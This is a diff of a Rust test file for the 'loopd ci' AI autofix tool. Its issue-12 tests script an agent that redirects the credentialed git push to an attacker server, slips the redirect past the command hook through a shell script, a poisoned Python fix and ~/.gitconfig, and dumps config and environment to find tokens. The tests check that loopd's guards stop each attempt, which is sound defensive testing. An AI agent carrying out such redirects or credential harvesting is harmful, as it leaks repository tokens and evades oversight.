@@ -1,23 +1,40 @@
 //! `loopd ci`, durable approvals and notifications — no network: a bare
-//! repository is the remote and a loopback server stands in for the GitHub
-//! API and the webhook receiver (issue: CI gated autofix).
+//! repository served over loopback HTTP by the real `git http-backend` (it
+//! wants the token, like GitHub) is the remote, and a loopback server that
+//! answers like the GitHub API (422 on a duplicate pull request, 404 for an
+//! unknown branch) stands in for the API and the webhook receiver (issues:
+//! CI gated autofix; 12, the token goes only where loopd decided).
 
+use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::{Duration, Instant};
 
 use serde_json::{json, Value};
 
 use crate::support::daemon::{status, submit, wait_for, Daemon};
-use crate::support::github::FakeGitHub;
+use crate::support::github::{FakeGitHub, PullScript};
+use crate::support::gitserver::{base64, basic, Attacker, GitServer};
 use crate::support::model::{Role, ScriptedModel};
 use crate::support::*;
 
 const TOKEN: &str = "ghs_test_token_0d9f3a1b_never_print";
 
-/// The fixture as a CI checkout: `origin` is a bare repository.
-fn ci_env() -> (TestEnv, std::path::PathBuf, String) {
+/// A CI checkout of the fixture: the remote is a bare repository at
+/// `<tmp>/git/acme/rechnung.git`, served by `git` (`GITHUB_SERVER_URL`) and
+/// also the checkout's `origin` (a path); the fake API reads its branches.
+struct Ci {
+    env: TestEnv,
+    remote: PathBuf,
+    sha: String,
+    gh: FakeGitHub,
+    git: GitServer,
+}
+
+fn ci_env() -> Ci {
     let env = TestEnv::new();
-    let remote = env.tmp.path().join("remote.git");
+    let root = env.tmp.path().join("git");
+    let remote = root.join("acme/rechnung.git");
+    std::fs::create_dir_all(remote.parent().expect("owner dir")).expect("git root");
     let out = Command::new("git")
         .args(["clone", "-q", "--bare"])
         .arg(&env.repo)
@@ -28,10 +45,53 @@ fn ci_env() -> (TestEnv, std::path::PathBuf, String) {
     assert!(out.status.success());
     env.git(&["remote", "add", "origin", &remote.to_string_lossy()]);
     let sha = env.git(&["rev-parse", "HEAD"]).trim().to_owned();
-    (env, remote, sha)
+    let gh = FakeGitHub::start();
+    gh.set_remote(&remote);
+    let git = GitServer::start(&root, TOKEN);
+    Ci {
+        env,
+        remote,
+        sha,
+        gh,
+        git,
+    }
 }
 
-fn remote_git(remote: &std::path::Path, args: &[&str]) -> (bool, String) {
+impl Ci {
+    /// Append `extra` to the fixture's `loopd.toml` and commit it.
+    fn configure(&mut self, extra: &str, message: &str) {
+        let path = self.env.repo.join("loopd.toml");
+        let cfg = std::fs::read_to_string(&path).expect("loopd.toml");
+        std::fs::write(&path, format!("{cfg}\n{extra}")).expect("loopd.toml");
+        self.commit(message);
+    }
+
+    /// Commit a change to the fixture before the run (a new failing commit).
+    fn commit(&mut self, message: &str) {
+        self.env.git(&["commit", "-qam", message]);
+        self.sha = self.env.git(&["rev-parse", "HEAD"]).trim().to_owned();
+    }
+
+    fn branch(&self) -> String {
+        format!("loopd/autofix/{}", &self.sha[..12])
+    }
+
+    /// The receive-pack requests that carried the token, as GitHub wants it.
+    fn authenticated_pushes(&self) -> usize {
+        self.git
+            .seen()
+            .iter()
+            .filter(|q| q.path.ends_with("/git-receive-pack"))
+            .filter(|q| q.authorization.as_deref() == Some(basic(TOKEN).as_str()))
+            .count()
+    }
+
+    fn config(&self) -> Vec<u8> {
+        std::fs::read(self.env.repo.join(".git/config")).expect(".git/config")
+    }
+}
+
+fn remote_git(remote: &Path, args: &[&str]) -> (bool, String) {
     let out = Command::new("git")
         .arg("--git-dir")
         .arg(remote)
@@ -45,29 +105,25 @@ fn remote_git(remote: &std::path::Path, args: &[&str]) -> (bool, String) {
     )
 }
 
-fn loopd_ci(
-    env: &TestEnv,
-    model: &ScriptedModel,
-    gh: &FakeGitHub,
-    sha: &str,
-    branch: &str,
-    event: Value,
-    event_name: &str,
-) -> (RunResult, String) {
+fn loopd_ci(ci: &Ci, model: &ScriptedModel, args: &[&str], branch: &str, event: Value, event_name: &str) -> (RunResult, String) {
+    let env = &ci.env;
     let event_path = env.tmp.path().join("event.json");
     std::fs::write(&event_path, event.to_string()).expect("event");
     let summary = env.tmp.path().join("step-summary.md");
+    let _ = std::fs::remove_file(&summary);
     let r = finish(
         env.loopd(Some(model))
             .args(["ci", "--json"])
+            .args(args)
             .env("GITHUB_ACTIONS", "true")
             .env("GITHUB_REPOSITORY", "acme/rechnung")
-            .env("GITHUB_SHA", sha)
+            .env("GITHUB_SHA", &ci.sha)
             .env("GITHUB_REF_NAME", branch)
             .env("GITHUB_EVENT_NAME", event_name)
             .env("GITHUB_EVENT_PATH", &event_path)
-            .env("GITHUB_API_URL", gh.url())
-            .env("GITHUB_SERVER_URL", "https://github.example")
+            .env("GITHUB_API_URL", ci.gh.url())
+            .env("GITHUB_SERVER_URL", ci.git.url())
+            .env("LOOPD_TEST_ALLOW_HTTP_LOOPBACK", "1")
             .env("GITHUB_RUN_ID", "42")
             .env("GITHUB_TOKEN", TOKEN)
             .env("GITHUB_STEP_SUMMARY", &summary)
@@ -77,43 +133,79 @@ fn loopd_ci(
     (r, std::fs::read_to_string(&summary).unwrap_or_default())
 }
 
+/// `loopd ci` on a push to `main`.
+fn ci_push(ci: &Ci, model: &ScriptedModel, args: &[&str]) -> (RunResult, String) {
+    loopd_ci(ci, model, args, "main", push_event(), "push")
+}
+
 fn push_event() -> Value {
     json!({"repository": {"full_name": "acme/rechnung", "fork": false}})
 }
 
-fn assert_no_token_in_state(env: &TestEnv) {
+fn assert_no_secret_in_state(env: &TestEnv, secrets: &[&str]) {
     for (path, bytes) in env.state_files() {
-        assert!(
-            !String::from_utf8_lossy(&bytes).contains(TOKEN),
-            "the token leaked into {}",
-            path.display()
-        );
+        let text = String::from_utf8_lossy(&bytes);
+        for s in secrets {
+            assert!(!text.contains(s), "`{s}` leaked into {}", path.display());
+        }
     }
+}
+
+fn assert_no_token_in_state(env: &TestEnv) {
+    assert_no_secret_in_state(env, &[TOKEN]);
+}
+
+/// The model of a run that fixes the build at the first attempt.
+fn one_clean_fix() -> ScriptedModel {
+    ScriptedModel::start(scenario(
+        vec![agent_writes(&clean_solution())],
+        vec![pass()],
+    ))
+}
+
+/// The `ci --json` report.
+fn report(r: &RunResult) -> Value {
+    serde_json::from_str(r.stdout.trim())
+        .unwrap_or_else(|e| panic!("no JSON report ({e}):\n{}\n{}", r.stdout, r.stderr))
+}
+
+/// The journal of the job a `ci` report names.
+fn ci_journal(report: &Value) -> Vec<loopd::journal::Event> {
+    journal(&report["summary"])
 }
 
 #[test]
 fn a_red_build_fixed_and_accepted_opens_exactly_one_pull_request() {
-    let (env, remote, sha) = ci_env();
-    let gh = FakeGitHub::start();
-    let model = ScriptedModel::start(scenario(
-        vec![agent_writes(&clean_solution())],
-        vec![pass()],
-    ));
-    let (r, step_summary) = loopd_ci(&env, &model, &gh, &sha, "main", push_event(), "push");
+    let ci = ci_env();
+    let (env, remote, sha, gh) = (&ci.env, &ci.remote, &ci.sha, &ci.gh);
+    let config_before = ci.config();
+    let model = one_clean_fix();
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
     assert_eq!(r.code, 0, "{}", r.stderr);
-    let report: Value = serde_json::from_str(r.stdout.trim()).expect("json");
+    let report = report(&r);
     assert_eq!(report["decision"], "pull_request_opened");
-    let branch = format!("loopd/autofix/{}", &sha[..12]);
-    // Pushed: the remote has the branch with the fix, carrying the trailer.
-    let (ok, _) = remote_git(&remote, &["rev-parse", &branch]);
+    let branch = ci.branch();
+    // The push went to GITHUB_SERVER_URL/GITHUB_REPOSITORY.git, with the
+    // token as GitHub wants it, and nowhere else.
+    assert_eq!(
+        report["push_url"],
+        format!("{}/acme/rechnung.git", ci.git.url())
+    );
+    assert_eq!(ci.authenticated_pushes(), 1, "{:?}", ci.git.seen());
+    let (ok, _) = remote_git(remote, &["rev-parse", &branch]);
     assert!(ok, "the branch was pushed");
     assert_eq!(
-        remote_git(&remote, &["show", &format!("{branch}:rechnung.py")]).1,
+        remote_git(remote, &["show", &format!("{branch}:rechnung.py")]).1,
         clean_solution()
     );
-    assert!(remote_git(&remote, &["log", "-1", "--format=%B", &branch])
-        .1
-        .contains("Loopd-Job:"));
+    let message = remote_git(remote, &["log", "-1", "--format=%B", &branch]).1;
+    assert!(message.contains("Loopd-Job:"), "{message}");
+    assert!(message.contains(&format!("Loopd-Autofix-Of: {sha}")), "{message}");
+    assert_eq!(
+        remote_git(remote, &["rev-parse", &format!("{branch}^")]).1.trim(),
+        sha,
+        "the fix sits on the failing commit"
+    );
     // One pull request, against the failing branch, with the summary.
     let pulls = gh.pulls();
     assert_eq!(pulls.len(), 1);
@@ -136,7 +228,7 @@ fn a_red_build_fixed_and_accepted_opens_exactly_one_pull_request() {
     // A status on the failing commit, authenticated with the token.
     let statuses = gh.statuses();
     assert_eq!(statuses.len(), 1);
-    assert_eq!(statuses[0].0, sha);
+    assert_eq!(statuses[0].0, *sha);
     assert_eq!(statuses[0].1["state"], "success");
     assert!(gh.requests().iter().all(|q| q.path.starts_with("/hook")
         || q.authorization.as_deref() == Some(&format!("Bearer {TOKEN}"))));
@@ -144,49 +236,43 @@ fn a_red_build_fixed_and_accepted_opens_exactly_one_pull_request() {
         step_summary.contains("pull request opened"),
         "{step_summary}"
     );
-    // The checkout's HEAD did not move.
+    // The commit, the push and the pull request are facts of the journal.
+    let events = ci_journal(&report);
+    use loopd::journal::Event;
+    assert!(events.iter().any(|e| matches!(e, Event::Committed { .. })));
+    assert!(events.iter().any(|e| matches!(e, Event::Pushed { branch: b, url, .. } if *b == branch && url.ends_with("/acme/rechnung.git"))));
+    assert!(events.iter().any(|e| matches!(e, Event::PullRequest { number: 1, opened_now: true, .. })));
+    assert!(events.iter().any(|e| matches!(e, Event::GitDirPinned { .. })));
+    // The checkout's HEAD did not move, its git config is as it was.
     assert_eq!(env.git(&["rev-parse", "HEAD"]).trim(), sha);
+    assert_eq!(ci.config(), config_before);
     // The token reached neither the agent nor any file.
     assert!(!model
         .requests()
         .iter()
         .any(|q| q.body.to_string().contains(TOKEN)));
-    assert_no_token_in_state(&env);
+    assert_no_token_in_state(env);
 }
 
 #[test]
 fn a_fix_that_fails_the_risk_policy_is_not_pushed() {
-    let (env, remote, _) = ci_env();
-    let cfg = std::fs::read_to_string(env.repo.join("loopd.toml")).expect("cfg");
-    std::fs::write(
-        env.repo.join("loopd.toml"),
-        format!("{cfg}\n[ci]\nmax_lines = 2\n"),
-    )
-    .expect("cfg");
-    env.git(&["commit", "-qam", "tight risk policy"]);
-    let sha = env.git(&["rev-parse", "HEAD"]).trim().to_owned();
-    let gh = FakeGitHub::start();
-    let model = ScriptedModel::start(scenario(
-        vec![agent_writes(&clean_solution())],
-        vec![pass()],
-    ));
-    let (r, step_summary) = loopd_ci(&env, &model, &gh, &sha, "main", push_event(), "push");
+    let mut ci = ci_env();
+    ci.configure("[ci]\nmax_lines = 2\n", "tight risk policy");
+    let model = one_clean_fix();
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
     assert_eq!(r.code, 3, "{}", r.stderr);
-    let report: Value = serde_json::from_str(r.stdout.trim()).expect("json");
+    let report = report(&r);
     assert_eq!(report["decision"], "gate_refused");
     assert!(report["risk_violations"][0]
         .as_str()
         .expect("why")
         .contains("lines changed; the policy allows at most 2"));
     assert!(
-        !remote_git(
-            &remote,
-            &["rev-parse", &format!("loopd/autofix/{}", &sha[..12])]
-        )
-        .0,
+        !remote_git(&ci.remote, &["rev-parse", &ci.branch()]).0,
         "nothing pushed"
     );
-    assert!(gh.pulls().is_empty());
+    assert!(ci.git.seen().is_empty(), "not even a connection");
+    assert!(ci.gh.pulls().is_empty());
     assert!(
         step_summary.contains("gate refused") && step_summary.contains("at most 2"),
         "{step_summary}"
@@ -195,52 +281,378 @@ fn a_fix_that_fails_the_risk_policy_is_not_pushed() {
 
 #[test]
 fn nothing_runs_on_loopds_own_branches() {
-    let (env, _remote, sha) = ci_env();
-    let gh = FakeGitHub::start();
+    let ci = ci_env();
     let model = ScriptedModel::start(scenario(vec![], vec![]));
     let (r, _) = loopd_ci(
-        &env,
+        &ci,
         &model,
-        &gh,
-        &sha,
+        &[],
         "loopd/autofix/0123456789ab",
         push_event(),
         "push",
     );
     assert_eq!(r.code, 0, "{}", r.stderr);
     assert!(r.stdout.contains("\"skipped\""));
-    assert!(model.requests().is_empty() && gh.requests().is_empty());
+    assert!(model.requests().is_empty() && ci.gh.requests().is_empty());
 }
 
 #[test]
 fn a_second_run_for_the_same_commit_opens_no_second_pull_request() {
-    let (env, _remote, sha) = ci_env();
-    let gh = FakeGitHub::start();
-    gh.add_pull(&format!("loopd/autofix/{}", &sha[..12]), "main");
-    let model = ScriptedModel::start(scenario(
-        vec![agent_writes(&clean_solution())],
-        vec![pass()],
-    ));
-    let (r, _) = loopd_ci(&env, &model, &gh, &sha, "main", push_event(), "push");
+    let ci = ci_env();
+    ci.gh.add_pull(&ci.branch(), "main");
+    let model = one_clean_fix();
+    let (r, _) = ci_push(&ci, &model, &[]);
     assert_eq!(r.code, 0, "{}", r.stderr);
     assert!(r.stdout.contains("\"pull_request_exists\""));
-    assert_eq!(gh.pulls().len(), 1);
+    assert_eq!(ci.gh.pulls().len(), 1);
     assert!(model.requests().is_empty(), "no model call, no cost");
 }
 
 #[test]
 fn an_event_from_a_fork_is_refused() {
-    let (env, _remote, sha) = ci_env();
-    let gh = FakeGitHub::start();
+    let ci = ci_env();
     let model = ScriptedModel::start(scenario(
         vec![agent_writes(&clean_solution())],
         vec![pass()],
     ));
     let event = json!({"pull_request": {"head": {"repo": {"full_name": "mallory/rechnung"}}, "base": {"repo": {"full_name": "acme/rechnung"}}}});
-    let (r, summary) = loopd_ci(&env, &model, &gh, &sha, "feature", event, "pull_request");
+    let (r, summary) = loopd_ci(&ci, &model, &[], "feature", event, "pull_request");
     assert_eq!(r.code, 2, "{}", r.stderr);
     assert!(summary.contains("fork"), "{summary}");
-    assert!(model.requests().is_empty() && gh.pulls().is_empty());
+    assert!(model.requests().is_empty() && ci.gh.pulls().is_empty());
+}
+
+// ---- issue 12: the token goes only where loopd decided -----------------------
+
+/// `git config` lines that send a push of the decided URL to the attacker.
+fn redirect_script(ci: &Ci, attacker: &Attacker) -> String {
+    format!(
+        "git config remote.origin.pushurl {}\ngit config url.{}.pushInsteadOf {}/\n",
+        attacker.url(),
+        attacker.base(),
+        ci.git.url()
+    )
+}
+
+fn gate_findings(events: &[loopd::journal::Event], which: loopd::journal::Gate) -> Vec<loopd::guard::tamper::Finding> {
+    events
+        .iter()
+        .filter_map(|e| match e {
+            loopd::journal::Event::GateChecked { gate, findings, .. } if *gate == which => {
+                Some(findings.clone())
+            }
+            _ => None,
+        })
+        .flatten()
+        .collect()
+}
+
+/// The files the pushed fix changes, relative to the failing commit.
+fn pushed_files(ci: &Ci) -> String {
+    remote_git(&ci.remote, &["diff", "--name-only", &ci.sha, &ci.branch()]).1
+}
+
+#[test]
+fn issue12_a_push_url_redirected_through_the_agents_bash_reaches_no_attacker() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    let config_before = ci.config();
+    let model = ScriptedModel::start(scenario(
+        vec![
+            session(vec![
+                // Straight: the hook denies it.
+                turn(vec![bash(&format!(
+                    "git remote set-url --push origin {}",
+                    attacker.url()
+                ))]),
+                // Through a script the hook cannot read: the gate sees it.
+                turn(vec![write("redirect.sh", &redirect_script(&ci, &attacker))]),
+                turn(vec![bash("sh redirect.sh")]),
+                turn(vec![read("rechnung.py")]),
+                turn(vec![write("rechnung.py", &clean_solution())]),
+                turn(vec![text("Done.")]),
+            ]),
+            session(vec![turn(vec![bash("rm redirect.sh")]), turn(vec![text("Done.")])]),
+        ],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    // The attacker never heard from loopd; the fix went where it was decided.
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert_eq!(ci.authenticated_pushes(), 1);
+    assert_eq!(pushed_files(&ci), "rechnung.py\n");
+    assert_eq!(ci.config(), config_before, "`.git/config` is as it was");
+    let events = ci_journal(&report);
+    assert!(
+        events.iter().any(|e| matches!(e, loopd::journal::Event::HookDenied { finding, .. } if finding.path.contains("git remote set-url"))),
+        "the hook denied `git remote set-url`"
+    );
+    let found = gate_findings(&events, loopd::journal::Gate::GitDir);
+    assert!(
+        found.iter().any(|f| f.path == ".git/config"),
+        "the gate after the session saw the config change: {found:?}"
+    );
+    assert_eq!(report["summary"]["attempts"][0]["rejected_by"], "protected_path");
+    assert_no_token_in_state(&ci.env);
+}
+
+#[test]
+fn issue12_a_push_url_redirected_by_code_the_goal_test_runs_reaches_no_attacker() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    let config_before = ci.config();
+    // A "fix" that redirects the push when the tests import it.
+    let poisoned = format!(
+        "{}\nimport subprocess as _sp  # noqa: E402\n\nfor _line in {:?}.splitlines():\n    _sp.run(_line.split(' '), check=False)\n",
+        clean_solution(),
+        redirect_script(&ci, &attacker)
+    );
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&poisoned), agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert_eq!(ci.authenticated_pushes(), 1);
+    assert_eq!(ci.config(), config_before);
+    let events = ci_journal(&report);
+    let found = gate_findings(&events, loopd::journal::Gate::GitDirAfterGoal);
+    assert!(
+        found.iter().any(|f| f.path == ".git/config" && f.problem.contains("goal test")),
+        "the gate after the goal test saw the config change: {found:?}"
+    );
+    assert_eq!(
+        remote_git(&ci.remote, &["show", &format!("{}:rechnung.py", ci.branch())]).1,
+        clean_solution(),
+        "the poisoned attempt was rejected; the clean one is pushed"
+    );
+    assert_eq!(model.session_count(Role::Critic), 1, "the poisoned attempt never reached the critic");
+}
+
+#[test]
+fn issue12_a_push_url_rewritten_outside_the_repository_is_refused_not_followed() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    // `~/.gitconfig` is not the repository's: no gate sees it, but the push
+    // notices that the decided URL would be rewritten and refuses. (The CLI
+    // refuses a redirect into `~/.gitconfig`; a script is not looked into.)
+    let global = format!(
+        "printf '[url \"%s\"]\\n\\tpushInsteadOf = %s/\\n' '{}' '{}' > \"$HOME/.gitconfig\"\n",
+        attacker.base(),
+        ci.git.url()
+    );
+    let model = ScriptedModel::start(scenario(
+        vec![session(vec![
+            turn(vec![write("setup.sh", &global)]),
+            turn(vec![bash("sh setup.sh")]),
+            turn(vec![read("rechnung.py")]),
+            turn(vec![write("rechnung.py", &clean_solution())]),
+            turn(vec![text("Done.")]),
+        ])],
+        vec![pass()],
+    ));
+    let (r, step_summary) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert!(
+        std::fs::read_to_string(ci.env.home.join(".gitconfig")).is_ok_and(|t| t.contains("pushInsteadOf")),
+        "the agent wrote the rewrite"
+    );
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "error");
+    assert!(report["why"].as_str().expect("why").contains("insteadOf"), "{report}");
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert!(ci.git.seen().is_empty(), "not pushed at all");
+    assert!(step_summary.contains("error") && step_summary.contains("insteadOf"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("a status").1["state"], "error");
+    assert!(ci.gh.pulls().is_empty());
+}
+
+#[test]
+fn issue12_credentials_in_the_checkout_never_reach_the_agent_and_are_put_back() {
+    let ci = ci_env();
+    // What actions/checkout persists, and a personal token in a remote URL.
+    let header_value = base64(format!("x-access-token:{TOKEN}").as_bytes());
+    let pat = "ghp_personal_0f3e_never_print";
+    ci.env.git(&[
+        "config",
+        "http.https://github.example/.extraheader",
+        &format!("AUTHORIZATION: basic {header_value}"),
+    ]);
+    ci.env.git(&[
+        "remote",
+        "add",
+        "upstream",
+        &format!("https://x-access-token:{pat}@github.example/acme/rechnung.git"),
+    ]);
+    let config_before = ci.config();
+    let model = ScriptedModel::start(scenario(
+        vec![session(vec![
+            turn(vec![read(".git/config")]),
+            turn(vec![bash("cat .git/config; git config --list; env")]),
+            turn(vec![read("rechnung.py")]),
+            turn(vec![write("rechnung.py", &clean_solution())]),
+            turn(vec![text("Done.")]),
+        ])],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let sent: String = model
+        .requests()
+        .iter()
+        .map(|q| q.body.to_string())
+        .collect();
+    // The agent really read the config and its environment...
+    assert!(sent.contains("github.example/acme/rechnung.git"), "the Read's result reached the model");
+    assert!(sent.contains("CLAUDECODE=1"), "the env output reached the model");
+    // ...and neither held a secret.
+    for secret in [TOKEN, header_value.as_str(), pat] {
+        assert!(!sent.contains(secret), "`{secret}` reached the model");
+    }
+    assert_no_secret_in_state(&ci.env, &[TOKEN, &header_value, pat]);
+    // Put back byte for byte, and no record of them is left.
+    assert_eq!(ci.config(), config_before);
+    assert!(
+        std::fs::read_dir(ci.env.state.join("held"))
+            .map(|d| d.flatten().all(|e| e.path().extension().is_none_or(|x| x != "json")))
+            .unwrap_or(true),
+        "the held record is gone"
+    );
+    let events = ci_journal(&report(&r));
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::CredentialsHeld { removed, .. } if removed.len() == 2)));
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::CredentialsReleased { .. })));
+    // The push itself used only the token from the environment.
+    assert_eq!(ci.authenticated_pushes(), 1);
+}
+
+#[test]
+fn issue12_a_rerun_after_an_api_outage_opens_exactly_one_pull_request_without_a_model_call() {
+    let ci = ci_env();
+    // Pushed, then the API is down for every try of the pull request.
+    ci.gh.script_pulls(&[PullScript::Fail(502); 4]);
+    let model = one_clean_fix();
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let first = report(&r);
+    assert_eq!(first["decision"], "error");
+    assert!(first["why"].as_str().expect("why").contains("open the pull request"), "{first}");
+    assert!(step_summary.contains("## loopd autofix: error"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "error");
+    assert!(remote_git(&ci.remote, &["rev-parse", &ci.branch()]).0, "pushed before the outage");
+    assert!(ci.gh.pulls().is_empty());
+
+    // The rerun: the branch carries loopd's fix of this commit.
+    let rerun_model = ScriptedModel::start(scenario(vec![], vec![]));
+    let tip = remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1;
+    let (r, step_summary) = ci_push(&ci, &rerun_model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let second = report(&r);
+    assert_eq!(second["decision"], "pull_request_opened", "{second}");
+    assert!(second["summary"].is_null(), "no loop ran");
+    assert!(rerun_model.requests().is_empty(), "no model call, no cost");
+    let pulls = ci.gh.pulls();
+    assert_eq!(pulls.len(), 1);
+    assert_eq!(pulls[0].1, ci.branch());
+    assert!(pulls[0].4.contains("earlier run"), "{}", pulls[0].4);
+    assert_eq!(remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1, tip, "not pushed again");
+    assert!(step_summary.contains("pull request opened"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "success");
+
+    // And once more: it exists.
+    let (r, _) = ci_push(&ci, &rerun_model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(report(&r)["decision"], "pull_request_exists");
+    assert_eq!(ci.gh.pulls().len(), 1);
+    assert!(rerun_model.requests().is_empty());
+}
+
+#[test]
+fn issue12_a_pull_request_created_behind_a_502_is_success_not_an_error() {
+    let ci = ci_env();
+    // GitHub creates the pull request, the answer is lost (502); the retry
+    // gets 422 "already exists".
+    ci.gh.script_pulls(&[PullScript::CreateThenFail(502)]);
+    let model = one_clean_fix();
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_exists", "{report}");
+    assert_eq!(report["pull_request"]["number"], 1);
+    assert_eq!(ci.gh.pulls().len(), 1);
+    let posts = ci
+        .gh
+        .requests()
+        .into_iter()
+        .filter(|q| q.method == "POST" && q.path.ends_with("/pulls"))
+        .count();
+    assert_eq!(posts, 2, "the 502, then the 422");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "success");
+    assert!(step_summary.contains("pull request exists"), "{step_summary}");
+    let events = ci_journal(&report);
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::PullRequest { number: 1, opened_now: false, .. })));
+}
+
+#[test]
+fn issue12_a_branch_with_someone_elses_commit_is_never_pushed_over() {
+    let ci = ci_env();
+    // Someone pushed by hand to loopd's branch name for this commit.
+    ci.env.git(&[
+        "push",
+        "-q",
+        &ci.remote.to_string_lossy(),
+        &format!("HEAD:refs/heads/{}", ci.branch()),
+    ]);
+    let model = one_clean_fix();
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "error");
+    assert!(report["why"].as_str().expect("why").contains("did not make"), "{report}");
+    assert!(step_summary.contains("did not make"), "{step_summary}");
+    assert!(model.requests().is_empty(), "refused before any spend");
+    assert_eq!(
+        remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1.trim(),
+        ci.sha,
+        "the branch is untouched"
+    );
+}
+
+#[test]
+fn issue12_goal_and_build_artefacts_are_not_part_of_the_fix() {
+    let mut ci = ci_env();
+    // No `.gitignore` for `__pycache__`, as in many repositories, a goal
+    // step that leaves a report behind, and room for one changed file.
+    std::fs::remove_file(ci.env.repo.join(".gitignore")).expect("rm .gitignore");
+    ci.configure(
+        "[[goal]]\nname = \"stamp\"\nrun = \"sh -c 'date +%N > build-stamp.txt'\"\n\n[ci]\nmax_files = 1\n",
+        "no .gitignore; a goal step that leaves a file",
+    );
+    let model = one_clean_fix();
+    let (r, _) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    assert_eq!(pushed_files(&ci), "rechnung.py\n", "only the agent's change is committed");
+    // The goal steps really left their files in the checkout...
+    for left in ["__pycache__", ".pytest_cache", "build-stamp.txt"] {
+        assert!(ci.env.repo.join(left).exists(), "{left} was not even made");
+    }
+    // ...and the critic never saw them.
+    let run_dir = PathBuf::from(report["summary"]["run_dir"].as_str().expect("run_dir"));
+    let critic_input = std::fs::read_to_string(run_dir.join("attempt-1/critic-input.txt")).expect("critic input");
+    for artefact in ["__pycache__", ".pyc", ".pytest_cache", ".ruff_cache", "b/build-stamp.txt"] {
+        assert!(!critic_input.contains(artefact), "the critic saw {artefact}");
+    }
+    assert!(critic_input.contains("b/rechnung.py"));
+    // The journal says which files the goal made.
+    let events = ci_journal(&report);
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::Baseline { artefacts, .. } if artefacts.contains_key("build-stamp.txt"))));
 }
 
 // ---- the durable approval gate (daemon) --------------------------------------
@@ -271,7 +683,7 @@ fn awaiting_approval(
 }
 
 fn approval_env(action: &str, gh: &FakeGitHub) -> (TestEnv, std::path::PathBuf) {
-    let (env, remote, _) = ci_env();
+    let Ci { env, remote, .. } = ci_env();
     let cfg = std::fs::read_to_string(env.repo.join("loopd.toml")).expect("cfg");
     std::fs::write(
         env.repo.join("loopd.toml"),
@@ -428,7 +840,7 @@ fn approve_with_merge_merges_into_the_named_local_branch() {
 fn a_webhook_failing_twice_is_delivered_once_and_the_job_is_unaffected() {
     let gh = FakeGitHub::start();
     gh.script_hook(&[500, 500, 200]);
-    let (env, _, _) = ci_env();
+    let Ci { env, .. } = ci_env();
     let cfg = std::fs::read_to_string(env.repo.join("loopd.toml")).expect("cfg");
     std::fs::write(
         env.repo.join("loopd.toml"),
@@ -486,6 +898,8 @@ assert on["workflow_run"]["types"] == ["completed"], on
 assert d["permissions"] == {"contents": "write", "pull-requests": "write", "statuses": "write"}, d["permissions"]
 steps = d["jobs"]["autofix"]["steps"]
 assert any(s.get("run", "").strip() == "loopd ci" for s in steps), steps
+checkout = [s for s in steps if s.get("uses", "").startswith("actions/checkout")]
+assert checkout and all(s["with"]["persist-credentials"] is False for s in checkout), checkout
 assert "loopd/" in d["jobs"]["autofix"]["if"]
 print("ok")
 "#;
